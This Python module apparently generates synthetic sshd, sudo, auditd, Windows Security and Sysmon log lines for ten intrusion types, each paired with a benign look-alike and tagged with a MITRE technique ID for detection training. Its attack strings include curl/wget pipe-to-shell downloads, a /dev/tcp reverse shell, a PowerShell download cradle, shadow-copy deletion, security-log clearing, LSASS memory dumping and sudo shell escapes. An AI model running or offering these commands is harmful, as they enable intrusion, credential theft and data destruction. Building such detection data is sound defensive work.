"""Intrusions that hosts log (sshd, sudo, auditd, Windows, Sysmon), each with what innocent use looks like there."""

from __future__ import annotations

from datetime import datetime
from zlib import crc32

from forja.corpus.synth.grammar import Draw, base64_digits, between, hexadecimal_digits, pick, sample
from forja.corpus.synth.logs import audit, syslog, sysmon, windows
from forja.corpus.synth.names import FIRSTS, LASTS, hardware_address
from forja.corpus.synth.site import Clock, Line, Site, Story, office_pc

GUESSED = ["root", "admin", "test", "oracle", "postgres", "ubuntu", "guest", "user", "git", "jenkins", "ftpuser", "pi", "nagios", "hadoop", "mysql", "tomcat", "www", "deploy", "minecraft"]


def _ssh(at: datetime, host: str, pid: int, message: str) -> Line:
    return at, syslog(at, host, "sshd", pid, message)


def _accepted(site: Site, at: datetime, user: str, source: str, draw: Draw, *, method: str = "") -> list[Line]:
    pid, port = between(900, 32000, draw), between(32768, 61000, draw)
    method = method or ("publickey" if draw() < 0.7 else "password")
    key = f": ED25519 SHA256:{base64_digits(43, draw)}" if method == "publickey" else ""
    opened = (
        f"pam_unix(sshd:session): session opened for user {user}(uid={1000 + crc32(user.encode()) % 300}) by (uid=0)"
    )
    return [
        _ssh(at, site.host, pid, f"Accepted {method} for {user} from {source} port {port} ssh2{key}"),
        _ssh(at, site.host, pid, opened),
    ]


def unix_noise(site: Site, clock: Clock, draw: Draw) -> list[Line]:
    """What happens on any Linux server meanwhile."""
    lines: list[Line] = []
    host = site.host
    for _ in range(between(0, 7, draw)):
        at, kind, pid = clock.after(1, 240), int(draw() * 11), between(400, 32000, draw)
        if kind == 0:
            lines += _accepted(site, at, site.people[2].user, site.address(between(20, 200, draw)), draw)
        elif kind == 1:
            command = pick(
                ("run-parts /etc/cron.hourly", "/usr/lib/sa/sa1 1 1", "/opt/scripts/rotate.sh", "debian-sa1"), draw
            )
            lines.append((at, syslog(at, host, "CRON", pid, f"(root) CMD ({command})")))
        elif kind == 2:
            unit = pick(
                ("apt-daily.service", "logrotate.service", "fstrim.timer", "man-db.service", "certbot.service"), draw
            )
            lines.append(
                (at, syslog(at, host, "systemd", 1, f"{pick(('Started', 'Finished', 'Starting'), draw)} {unit}."))
            )
        elif kind == 3:
            lines.append(
                _ssh(at, host, pid, f"Connection closed by {site.address(between(2, 250, draw))} port {pid + 9000}")
            )
        elif kind == 4:
            lines.append((at, syslog(at, host, "CRON", pid, "pam_unix(cron:session): session closed for user root")))
        elif kind == 5:
            lines.append(
                _ssh(
                    at,
                    host,
                    pid,
                    f"Received disconnect from {site.address(7)} port {pid + 5000}:11: disconnected by user",
                )
            )
        elif kind == 6:
            lines.append(
                (at, syslog(at, host, "systemd-logind", 612, f"New session {pid} of user {site.people[3].user}."))
            )
        elif kind == 7:
            lines.append(
                (
                    at,
                    syslog(at, host, "postfix/smtpd", pid, f"connect from mail.{site.firm.domain}[{site.address(25)}]"),
                )
            )
        elif kind == 8:
            lines.append(
                (at, syslog(at, host, "chronyd", 540, f"Selected source {site.address(3)} (ntp.{site.firm.domain})"))
            )
        elif kind == 9:
            lines.append((at, syslog(at, host, "dbus-daemon", 488, "[system] Reloaded configuration")))
        else:
            lines.append(_ssh(at, host, pid, f"pam_unix(sshd:session): session closed for user {site.service}"))
    return lines


def brute_force(site: Site, draw: Draw, attack: bool) -> Story:
    """Many passwords for few accounts; or somebody who mistypes twice."""
    clock = Clock(site.night if attack and draw() < 0.6 else site.start, draw)
    lines = unix_noise(site, clock, draw)
    host, user = site.host, site.user
    if not attack:
        source = pick((site.home, site.address(between(20, 240, draw))), draw)
        count = between(1, 3, draw)
        for _ in range(count):
            pid = between(900, 32000, draw)
            lines.append(
                _ssh(clock.after(4, 15), host, pid, f"Failed password for {user} from {source} port {pid + 20000} ssh2")
            )
        lines += _accepted(
            site, clock.after(5, 40), user, source, draw, method="password" if draw() < 0.7 else "publickey"
        )
        lines += unix_noise(site, clock, draw)
        return Story(lines, "T1110.001", "/var/log/auth.log", {"source": source, "user": user, "count": str(count)})
    source = site.outside[0]
    count, names = between(5, 14, draw), sample(GUESSED, between(1, 4, draw), draw)
    succeeded = draw() < 0.4
    for _ in range(count):
        name = pick(names, draw)
        pid = between(900, 32000, draw)
        invalid = "" if name == "root" else "invalid user "
        form = draw()
        if form < 0.2 and invalid:
            lines.append(_ssh(clock.after(0.4, 3), host, pid, f"Invalid user {name} from {source} port {pid + 20000}"))
        text = f"Failed password for {invalid}{name} from {source} port {pid + 20000} ssh2"
        lines.append(_ssh(clock.after(0.4, 3), host, pid, text))
        if form > 0.85:
            lines.append(
                _ssh(
                    clock.now,
                    host,
                    pid,
                    f"Connection closed by authenticating user {name} {source} port {pid + 20000} [preauth]",
                )
            )
    if draw() < 0.3:
        lines.append(
            _ssh(
                clock.after(0, 1),
                host,
                1200,
                f"error: maximum authentication attempts exceeded for root from {source} port 40222 ssh2 [preauth]",
            )
        )
    if succeeded:
        lines += _accepted(site, clock.after(1, 4), site.service, source, draw, method="password")
    lines += unix_noise(site, clock, draw)
    facts = {"source": source, "user": site.service if succeeded else names[0], "count": str(count)}
    return Story(
        lines, "T1110.001", "/var/log/auth.log", facts | {"outcome": "broke in" if succeeded else "got nothing"}
    )


def spray(site: Site, draw: Draw, attack: bool) -> Story:
    """One password for many accounts; or a morning at work. Windows security log of a domain controller."""
    clock = Clock(site.start, draw)
    controller = f"DC{between(1, 4, draw):02d}.{site.firm.word.lower()}.test"
    lines: list[Line] = []
    count = between(6, 13, draw)
    source = site.outside[0] if draw() < 0.5 else site.address(between(50, 250, draw))
    logins = [site.user] + [
        f"{pick(FIRSTS['en'], draw).lower()}.{pick(LASTS['en'], draw).lower()}" for _ in range(count - 1)
    ]
    domain = site.firm.word.upper()
    for login in logins:
        own = source if attack else site.address(between(20, 250, draw))
        fields = {"TargetUserName": login, "TargetDomainName": domain, "IpAddress": own, "LogonType": "3"}
        if attack or draw() < 0.12:
            failed = {"Status": "0xC000006D", "SubStatus": pick(("0xC000006A", "0xC000006A", "0xC0000064"), draw)}
            lines.append(
                (
                    at := clock.after(1, 3 if attack else 90),
                    windows(at, 4625, controller, "An account failed to log on.", fields | failed),
                )
            )
        if not attack:
            lines.append(
                (
                    at := clock.after(8, 120),
                    windows(at, 4624, controller, "An account was successfully logged on.", fields),
                )
            )
    if attack:
        winner = pick(logins, draw)
        fields = {"TargetUserName": winner, "TargetDomainName": domain, "IpAddress": source, "LogonType": "3"}
        lines.append(
            (at := clock.after(1, 4), windows(at, 4624, controller, "An account was successfully logged on.", fields))
        )
        if draw() < 0.4:
            group = {"MemberName": winner, "TargetUserName": "Domain Admins", "SubjectUserName": winner}
            lines.append(
                (
                    at := clock.after(60, 600),
                    windows(at, 4728, controller, "A member was added to a security-enabled global group.", group),
                )
            )
    else:
        winner = site.user
    lines += windows_noise(site, clock, controller, draw)
    return Story(
        lines, "T1110.003", "Security", {"source": source, "user": winner, "count": str(count), "target": controller}
    )


def windows_noise(site: Site, clock: Clock, host: str, draw: Draw) -> list[Line]:
    lines: list[Line] = []
    for _ in range(between(0, 5, draw)):
        at, kind, user = clock.after(2, 200), int(draw() * 6), pick(site.people, draw).user
        source = site.address(between(20, 250, draw))
        if kind == 0:
            lines.append(
                (at, windows(at, 4634, host, "An account was logged off.", {"TargetUserName": user, "LogonType": "3"}))
            )
        elif kind == 1:
            lines.append(
                (
                    at,
                    windows(
                        at,
                        4768,
                        host,
                        "A Kerberos authentication ticket (TGT) was requested.",
                        {
                            "TargetUserName": user,
                            "IpAddress": f"::ffff:{source}",
                            "TicketEncryptionType": "0x12",
                            "Status": "0x0",
                        },
                    ),
                )
            )
        elif kind == 2:
            lines.append(
                (
                    at,
                    windows(
                        at,
                        4624,
                        host,
                        "An account was successfully logged on.",
                        {"TargetUserName": f"{site.host.upper()}$", "LogonType": "3", "IpAddress": source},
                    ),
                )
            )
        elif kind == 3:
            lines.append(
                (
                    at,
                    windows(
                        at, 4672, host, "Special privileges assigned to new logon.", {"SubjectUserName": site.admin}
                    ),
                )
            )
        elif kind == 4:
            lines.append(
                (
                    at,
                    windows(
                        at,
                        5140,
                        host,
                        "A network share object was accessed.",
                        {"SubjectUserName": user, "ShareName": r"\\*\SYSVOL", "IpAddress": source},
                    ),
                )
            )
        else:
            lines.append(
                (
                    at,
                    windows(
                        at,
                        4776,
                        host,
                        "The computer attempted to validate the credentials for an account.",
                        {"TargetUserName": user, "Workstation": office_pc(site.people[2], draw), "Status": "0x0"},
                    ),
                )
            )
    return lines


def lateral_movement(site: Site, draw: Draw, attack: bool) -> Story:
    """A service installed from a workstation on server after server; or software rolled out by its server."""
    clock = Clock(site.night if attack else site.start, draw)
    source_host = office_pc(site.people[0], draw) if attack else f"DEPLOY{between(1, 3, draw):02d}"
    source = site.address(between(100, 250, draw) if attack else between(5, 19, draw))
    user = site.admin if attack else "svc_deploy"
    lines: list[Line] = []
    word = hexadecimal_digits(8, draw)
    targets = [name.upper() for name in site.others]
    for host in targets:
        logon = {
            "TargetUserName": user,
            "LogonType": "3",
            "IpAddress": source,
            "WorkstationName": source_host,
            "AuthenticationPackageName": "NTLM" if attack else "Kerberos",
        }
        lines.append(
            (at := clock.after(5, 60), windows(at, 4624, host, "An account was successfully logged on.", logon))
        )
        if draw() < 0.6:
            lines.append(
                (
                    at := clock.after(0, 2),
                    windows(
                        at,
                        5145,
                        host,
                        "A network share object was checked.",
                        {
                            "SubjectUserName": user,
                            "ShareName": r"\\*\ADMIN$" if attack else r"\\*\Deploy$",
                            "RelativeTargetName": f"{word}.exe" if attack else "agent-setup.msi",
                        },
                    ),
                )
            )
        path = rf"%SystemRoot%\{word}.exe" if attack else r"C:\Program Files\SoftwareAgent\agent.exe"
        name = pick((word[:6], "PSEXESVC", "WinUpdateSvc"), draw) if attack else "SoftwareAgent"
        lines.append(
            (
                at := clock.after(1, 6),
                windows(
                    at,
                    7045,
                    host,
                    "A service was installed in the system.",
                    {"ServiceName": name, "ImagePath": path, "StartType": "demand start", "AccountName": "LocalSystem"},
                ),
            )
        )
        if attack and draw() < 0.5:
            lines.append(
                (
                    at := clock.after(1, 9),
                    windows(
                        at,
                        4688,
                        host,
                        "A new process has been created.",
                        {
                            "NewProcessName": r"C:\Windows\System32\cmd.exe",
                            "CommandLine": pick(
                                (
                                    "cmd.exe /c whoami /all",
                                    'cmd.exe /c net group "Domain Admins" /domain',
                                    "cmd.exe /c nltest /dclist:",
                                ),
                                draw,
                            ),
                            "ParentProcessName": path,
                        },
                    ),
                )
            )
    lines += windows_noise(site, clock, targets[0], draw)
    return Story(
        lines,
        "T1021.002",
        "Security / System",
        {"source": source, "user": user, "count": str(len(targets)), "target": source_host},
    )


def macro(site: Site, draw: Draw, attack: bool) -> Story:
    """An office document that starts a shell; or management software that does. Sysmon."""
    clock = Clock(site.start, draw)
    victim = site.people[0]
    host = f"{office_pc(victim, draw)}.{site.firm.word.lower()}.test"
    user = f"{site.firm.word.upper()}\\{victim.user}"
    lines: list[Line] = []
    shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    office = pick(("WINWORD.EXE", "EXCEL.EXE", "OUTLOOK.EXE"), draw)
    parent = (
        rf"C:\Program Files\Microsoft Office\root\Office16\{office}"
        if attack
        else r"C:\Program Files\EndpointManager\agent.exe"
    )
    if attack:
        name = pick(("Invoice", "Scan", "Offer", "Statement"), draw) + str(between(100, 9999, draw))
        lines.append(
            (
                at := clock.after(1, 5),
                sysmon(
                    at,
                    11,
                    host,
                    {"Image": parent, "TargetFilename": rf"C:\Users\{victim.user}\Downloads\{name}.docm", "User": user},
                ),
            )
        )
        command = pick(
            (
                "powershell.exe -nop -w hidden -enc {x}",
                "powershell -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand {x}",
                "powershell.exe -c \"IEX (New-Object Net.WebClient).DownloadString('http://{a}/{w}')\"",
            ),
            draw,
        )
        command = (
            command.replace("{x}", "SQBFAFgAIA" + base64_digits(between(20, 60, draw), draw))
            .replace("{a}", site.outside[0])
            .replace("{w}", hexadecimal_digits(6, draw))
        )
    else:
        command = pick(
            (
                r"powershell.exe -NoProfile -File C:\ProgramData\EndpointManager\inventory.ps1",
                r"powershell.exe -ExecutionPolicy AllSigned -File C:\ProgramData\EndpointManager\compliance-check.ps1",
                r"powershell.exe -NonInteractive -File C:\ProgramData\EndpointManager\patch-state.ps1",
            ),
            draw,
        )
        user = r"NT AUTHORITY\SYSTEM"
    lines.append(
        (
            at := clock.after(1, 8),
            sysmon(
                at,
                1,
                host,
                {
                    "Image": shell,
                    "CommandLine": command,
                    "ParentImage": parent,
                    "User": user,
                    "Hashes": f"SHA256={hexadecimal_digits(64, draw)}",
                },
            ),
        )
    )
    target = site.outside[0] if attack else site.address(between(5, 20, draw))
    lines.append(
        (
            at := clock.after(1, 6),
            sysmon(
                at,
                3,
                host,
                {
                    "Image": shell,
                    "User": user,
                    "Protocol": "tcp",
                    "DestinationIp": target,
                    "DestinationPort": pick(("443", "8080", "80", "8443"), draw) if attack else "443",
                },
            ),
        )
    )
    if attack and draw() < 0.6:
        run = r"HKU\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run\Updater"
        lines.append(
            (
                at := clock.after(2, 20),
                sysmon(
                    at,
                    13,
                    host,
                    {
                        "Image": shell,
                        "TargetObject": run,
                        "Details": rf"C:\Users\{victim.user}\AppData\Roaming\{hexadecimal_digits(6, draw)}.exe",
                    },
                ),
            )
        )
    lines += sysmon_noise(site, clock, host, draw)
    return Story(
        lines,
        "T1059.001",
        "Microsoft-Windows-Sysmon/Operational",
        {
            "source": target,
            "user": victim.user,
            "target": host,
            "count": str(len(lines)),
            "tool": office if attack else "agent.exe",
        },
    )


def sysmon_noise(site: Site, clock: Clock, host: str, draw: Draw) -> list[Line]:
    lines: list[Line] = []
    for _ in range(between(0, 5, draw)):
        at, kind = clock.after(2, 120), int(draw() * 5)
        if kind == 0:
            lines.append(
                (
                    at,
                    sysmon(
                        at,
                        22,
                        host,
                        {
                            "Image": r"C:\Program Files\Browser\browser.exe",
                            "QueryName": f"intranet.{site.firm.domain}",
                            "QueryResults": site.address(80),
                        },
                    ),
                )
            )
        elif kind == 1:
            lines.append(
                (
                    at,
                    sysmon(
                        at,
                        1,
                        host,
                        {
                            "Image": r"C:\Windows\System32\svchost.exe",
                            "CommandLine": "svchost.exe -k netsvcs -p",
                            "ParentImage": r"C:\Windows\System32\services.exe",
                        },
                    ),
                )
            )
        elif kind == 2:
            lines.append(
                (at, sysmon(at, 5, host, {"Image": r"C:\Windows\System32\notepad.exe", "User": site.people[0].user}))
            )
        elif kind == 3:
            lines.append(
                (
                    at,
                    sysmon(
                        at,
                        3,
                        host,
                        {
                            "Image": r"C:\Program Files\Mail\mail.exe",
                            "DestinationIp": site.address(25),
                            "DestinationPort": "993",
                        },
                    ),
                )
            )
        else:
            lines.append(
                (
                    at,
                    sysmon(
                        at,
                        11,
                        host,
                        {
                            "Image": r"C:\Windows\explorer.exe",
                            "TargetFilename": rf"C:\Users\{site.user}\Documents\plan{between(1, 90, draw)}.xlsx",
                        },
                    ),
                )
            )
    return lines


def ransomware(site: Site, draw: Draw, attack: bool) -> Story:
    """Shadow copies deleted and recovery switched off; or the nightly backup. Sysmon process creation."""
    clock = Clock(site.night, draw)
    host = f"{site.host.upper()}.{site.firm.word.lower()}.test"
    user = f"{site.firm.word.upper()}\\{site.admin}" if attack else f"{site.firm.word.upper()}\\svc_backup"
    parent = (
        rf"C:\Users\Public\{hexadecimal_digits(7, draw)}.exe" if attack else r"C:\Program Files\BackupSuite\bin\job.exe"
    )
    bad = (
        ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        ("wbadmin.exe", "wbadmin delete catalog -quiet"),
        ("bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
        ("wmic.exe", "wmic shadowcopy delete /nointeractive"),
        ("net.exe", f"net stop {pick(('MSSQLSERVER', 'VeeamBackupSvc', 'SQLWriter'), draw)} /y"),
        ("wevtutil.exe", "wevtutil cl Security"),
        ("taskkill.exe", "taskkill /f /im sqlservr.exe"),
        ("fsutil.exe", "fsutil usn deletejournal /d C:"),
        ("bcdedit.exe", "bcdedit /set {default} bootstatuspolicy ignoreallfailures"),
    )
    good = (
        ("vssadmin.exe", "vssadmin list shadows"),
        ("vssadmin.exe", "vssadmin create shadow /for=D:"),
        ("wbadmin.exe", "wbadmin start backup -backupTarget:E: -include:D: -quiet"),
        ("wbadmin.exe", "wbadmin get versions"),
        ("robocopy.exe", r"robocopy D:\data E:\mirror /MIR /R:2"),
        ("vssadmin.exe", "vssadmin list writers"),
        ("schtasks.exe", "schtasks /query /tn NightlyBackup"),
    )
    lines: list[Line] = []
    chosen = sample(bad if attack else good, between(3, 6, draw), draw)
    for image, command in chosen:
        lines.append(
            (
                at := clock.after(1, 15 if attack else 300),
                sysmon(
                    at,
                    1,
                    host,
                    {
                        "Image": rf"C:\Windows\System32\{image}",
                        "CommandLine": command,
                        "ParentImage": parent,
                        "User": user,
                    },
                ),
            )
        )
    if attack:
        ending = pick((".lckd", ".crypt7", ".r4n", ".zzq"), draw)
        for _ in range(between(2, 5, draw)):
            lines.append(
                (
                    at := clock.after(0.1, 2),
                    sysmon(
                        at,
                        11,
                        host,
                        {
                            "Image": parent,
                            "TargetFilename": rf"D:\share\{pick(('Q', 'plan', 'price', 'staff'), draw)}{between(1, 99, draw)}.xlsx{ending}",
                        },
                    ),
                )
            )
    lines += sysmon_noise(site, clock, host, draw)
    return Story(
        lines,
        "T1490",
        "Microsoft-Windows-Sysmon/Operational",
        {"source": parent, "user": user, "target": host, "count": str(len(chosen)), "tool": chosen[0][0]},
    )


def credential_dump(site: Site, draw: Draw, attack: bool) -> Story:
    """A process reads the memory of LSASS; or the virus scanner looks at it with few rights."""
    clock = Clock(site.start, draw)
    host = f"{site.host.upper()}.{site.firm.word.lower()}.test"
    lsass = r"C:\Windows\System32\lsass.exe"
    lines: list[Line] = []
    if attack:
        image = pick(
            (
                rf"C:\Temp\{hexadecimal_digits(6, draw)}.exe",
                r"C:\Windows\System32\rundll32.exe",
                rf"C:\Users\{site.user}\AppData\Local\Temp\pd64.exe",
            ),
            draw,
        )
        line = pick(
            (
                rf"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {between(500, 900, draw)} C:\Temp\o.dmp full",
                rf"{image} -accepteula -ma lsass.exe C:\Temp\{hexadecimal_digits(4, draw)}.dmp",
            ),
            draw,
        )
        lines.append(
            (
                at := clock.after(1, 30),
                sysmon(
                    at,
                    1,
                    host,
                    {
                        "Image": image,
                        "CommandLine": line,
                        "User": site.user,
                        "ParentImage": r"C:\Windows\System32\cmd.exe",
                    },
                ),
            )
        )
        rights = pick(("0x1FFFFF", "0x1010", "0x1438", "0x1410"), draw)
    else:
        image, rights = (
            pick(
                (
                    r"C:\Program Files\EndpointGuard\scan.exe",
                    r"C:\Windows\System32\wbem\wmiprvse.exe",
                    r"C:\Windows\System32\csrss.exe",
                ),
                draw,
            ),
            "0x1000",
        )
    for _ in range(between(1, 3, draw)):
        lines.append(
            (
                at := clock.after(0.2, 60),
                sysmon(
                    at,
                    10,
                    host,
                    {
                        "SourceImage": image,
                        "TargetImage": lsass,
                        "GrantedAccess": rights,
                        "CallTrace": r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4"
                        + ("|UNKNOWN" if attack and draw() < 0.5 else r"|C:\Windows\System32\KERNELBASE.dll+2730e"),
                    },
                ),
            )
        )
    if attack and draw() < 0.7:
        lines.append(
            (
                at := clock.after(0.5, 3),
                sysmon(at, 11, host, {"Image": image, "TargetFilename": rf"C:\Temp\{hexadecimal_digits(4, draw)}.dmp"}),
            )
        )
    lines += sysmon_noise(site, clock, host, draw) + windows_noise(site, clock, host, draw)
    return Story(
        lines,
        "T1003.001",
        "Microsoft-Windows-Sysmon/Operational",
        {"source": image, "user": site.user, "target": host, "count": rights, "tool": image.rsplit("\\", 1)[1]},
    )


def kerberoasting(site: Site, draw: Draw, attack: bool) -> Story:
    """One account asks for RC4 tickets of many services; or people use services, in AES."""
    clock = Clock(site.start, draw)
    controller = f"DC{between(1, 4, draw):02d}.{site.firm.word.lower()}.test"
    services = sample(
        (
            "MSSQLSvc/db01",
            "HTTP/intranet",
            "svc_backup",
            "MSSQLSvc/erp",
            "svc_print",
            "HTTP/reports",
            "svc_scan",
            "exchangeAB/mail",
            "FTP/files",
            "svc_crm",
        ),
        between(4, 8, draw),
        draw,
    )
    source = site.address(between(20, 250, draw))
    lines: list[Line] = []
    for service in services:
        fields = {
            "TargetUserName": site.user if attack else pick(site.people, draw).user,
            "ServiceName": service,
            "TicketEncryptionType": "0x17" if attack else "0x12",
            "TicketOptions": "0x40810000",
            "IpAddress": f"::ffff:{source if attack else site.address(between(20, 250, draw))}",
            "Status": "0x0",
        }
        lines.append(
            (
                at := clock.after(0.1, 2 if attack else 500),
                windows(at, 4769, controller, "A Kerberos service ticket was requested.", fields),
            )
        )
    lines += windows_noise(site, clock, controller, draw)
    return Story(
        lines,
        "T1558.003",
        "Security",
        {"source": source, "user": site.user, "target": controller, "count": str(len(services))},
    )


def escalation(site: Site, draw: Draw, attack: bool) -> Story:
    """A service account becomes root; or an administrator updates packages. auditd and sudo."""
    clock = Clock(site.start, draw)
    lines = unix_noise(site, clock, draw)
    user, host, serial = (site.service if attack else site.admin), site.host, between(1000, 90000, draw)
    uid = between(100, 999, draw) if attack else between(1000, 1200, draw)
    bad = (
        "/usr/bin/find . -exec /bin/sh ; -quit",
        "/usr/bin/vim -c :!/bin/bash",
        '/usr/bin/awk BEGIN{system("/bin/sh")}',
        "/usr/bin/less /etc/profile",
        "/bin/bash",
        "/usr/bin/python3 -c import pty",
    )
    good = (
        "/usr/bin/apt-get update",
        "/usr/bin/apt-get upgrade -y",
        "/bin/systemctl restart nginx",
        "/usr/bin/journalctl -u nginx",
        "/bin/systemctl status ssh",
        "/usr/bin/tail /var/log/syslog",
    )
    if attack:
        place = pick(("/tmp", "/dev/shm", "/var/tmp"), draw)
        for _ in range(between(1, 2, draw)):
            lines.append(
                (
                    at := clock.after(2, 20),
                    syslog(
                        at,
                        host,
                        "sudo",
                        None,
                        f"{user} : command not allowed ; TTY=unknown ; PWD={place} ; USER=root ; COMMAND={pick(('/bin/cat /etc/shadow', '/bin/su', '/usr/bin/passwd'), draw)}",
                    ),
                )
            )
    else:
        place = f"/home/{user}"
    for command in sample(bad, between(1, 2, draw), draw) if attack else sample(good, between(2, 4, draw), draw):
        tty = "unknown" if attack else f"pts/{between(0, 5, draw)}"
        lines.append(
            (
                at := clock.after(3, 60),
                syslog(at, host, "sudo", None, f"{user} : TTY={tty} ; PWD={place} ; USER=root ; COMMAND={command}"),
            )
        )
        program = command.split()[0]
        serial += between(1, 40, draw)
        lines.append(
            (
                at,
                audit(
                    at,
                    "SYSCALL",
                    serial,
                    f'arch=c000003e syscall=59 success=yes exit=0 ppid={between(900, 9000, draw)} pid={between(9000, 30000, draw)} auid={4294967295 if attack else uid} uid={uid} euid=0 comm="{program.rsplit("/", 1)[1]}" exe="{program}" key="privileged"',
                ),
            )
        )
    if attack:
        then = pick(("cat /etc/shadow", "chmod u+s /tmp/.x", "useradd -o -u 0 support", "crontab -l", "id"), draw)
        lines.append(
            (
                at := clock.after(3, 30),
                audit(
                    at,
                    "EXECVE",
                    serial + 3,
                    f"argc={len(then.split())} " + " ".join(f'a{n}="{word}"' for n, word in enumerate(then.split())),
                ),
            )
        )
    lines += unix_noise(site, clock, draw)
    return Story(
        lines,
        "T1548.003",
        "/var/log/auth.log and audit.log",
        {"source": place, "user": user, "target": host, "count": str(uid)},
    )


def persistence(site: Site, draw: Draw, attack: bool) -> Story:
    """A scheduled download that runs as root; or the rotation of a backup."""
    clock = Clock(site.night, draw)
    lines = unix_noise(site, clock, draw)
    user, host = (site.service if attack else site.admin), site.host
    lines.append(
        (
            at := clock.after(1, 60),
            syslog(
                at,
                host,
                "crontab",
                between(900, 30000, draw),
                f"({user}) {pick(('REPLACE', 'BEGIN EDIT'), draw)} ({user})",
            ),
        )
    )
    command = (
        pick(
            (
                f"curl -fsSL http://{site.outside[0]}/{hexadecimal_digits(5, draw)}.sh | bash",
                f"/dev/shm/.{hexadecimal_digits(4, draw)} >/dev/null 2>&1",
                f"wget -qO- {site.outside[0]}:8080/u | sh",
                f"bash -i >& /dev/tcp/{site.outside[0]}/4444 0>&1",
            ),
            draw,
        )
        if attack
        else pick(
            (
                "/opt/backup/rotate.sh --keep 30",
                "/usr/local/bin/report --weekly",
                "/usr/bin/rsync -a /srv/data backup:/pool",
                "/opt/certs/renew.sh",
            ),
            draw,
        )
    )
    for _ in range(between(2, 5, draw)):
        lines.append(
            (
                at := clock.after(60, 301) if attack else clock.after(3500, 3700),
                syslog(at, host, "CRON", between(900, 30000, draw), f"({user}) CMD ({command})"),
            )
        )
    if draw() < 0.5:
        lines.append(
            (
                at := clock.after(1, 5),
                syslog(
                    at,
                    host,
                    "kernel",
                    None,
                    f"[UFW AUDIT] IN= OUT=eth0 MAC={hardware_address(draw)} SRC={site.address(4)} DST={site.outside[0] if attack else site.address(9)} PROTO=TCP DPT={80 if attack else 22}",
                ),
            )
        )
    lines += unix_noise(site, clock, draw)
    return Story(
        lines,
        "T1053.003",
        "/var/log/syslog",
        {
            "source": site.outside[0] if attack else site.address(9),
            "user": user,
            "target": host,
            "count": "5",
            "tool": command.split()[0],
        },
    )


def log_clearing(site: Site, draw: Draw, attack: bool) -> Story:
    """The security log is cleared behind a new administrator; or archived by the collector."""
    clock = Clock(site.night if attack else site.start, draw)
    host = f"{site.host.upper()}.{site.firm.word.lower()}.test"
    who = pick(("helpdesk$", "support1", "svc_upd", site.user), draw) if attack else "svc_collector"
    lines: list[Line] = []
    if attack:
        lines.append(
            (
                at := clock.after(1, 60),
                windows(
                    at,
                    4720,
                    host,
                    "A user account was created.",
                    {"TargetUserName": who, "SubjectUserName": site.admin},
                ),
            )
        )
        lines.append(
            (
                at := clock.after(1, 20),
                windows(
                    at,
                    4732,
                    host,
                    "A member was added to a security-enabled local group.",
                    {"MemberName": who, "TargetUserName": "Administrators"},
                ),
            )
        )
        lines.append(
            (
                at := clock.after(20, 900),
                windows(
                    at,
                    4624,
                    host,
                    "An account was successfully logged on.",
                    {"TargetUserName": who, "LogonType": "10", "IpAddress": site.outside[0]},
                ),
            )
        )
        lines.append(
            (
                at := clock.after(60, 1200),
                windows(at, 1102, host, "The audit log was cleared.", {"SubjectUserName": who}),
            )
        )
    else:
        lines.append(
            (
                at := clock.after(1, 60),
                windows(
                    at,
                    1105,
                    host,
                    "Event log automatic backup.",
                    {"Channel": "Security", "BackupPath": rf"D:\logs\Archive-Security-{at:%Y-%m-%d}.evtx"},
                ),
            )
        )
        lines.append(
            (
                at := clock.after(60, 300),
                windows(
                    at,
                    4624,
                    host,
                    "An account was successfully logged on.",
                    {"TargetUserName": who, "LogonType": "3", "IpAddress": site.address(12)},
                ),
            )
        )
        lines.append(
            (
                at := clock.after(1, 20),
                windows(
                    at,
                    5145,
                    host,
                    "A network share object was checked.",
                    {"SubjectUserName": who, "ShareName": r"\\*\logs$"},
                ),
            )
        )
    for _ in range(2):
        lines += windows_noise(site, clock, host, draw)
    return Story(
        lines,
        "T1070.001",
        "Security",
        {"source": site.outside[0] if attack else site.address(12), "user": who, "target": host, "count": "1"},
    )


HOST_ATTACKS = {
    "brute-force": brute_force,
    "password-spray": spray,
    "lateral-movement": lateral_movement,
    "malicious-macro": macro,
    "ransomware-precursor": ransomware,
    "credential-dump": credential_dump,
    "kerberoasting": kerberoasting,
    "privilege-escalation": escalation,
    "cron-persistence": persistence,
    "log-clearing": log_clearing,
}
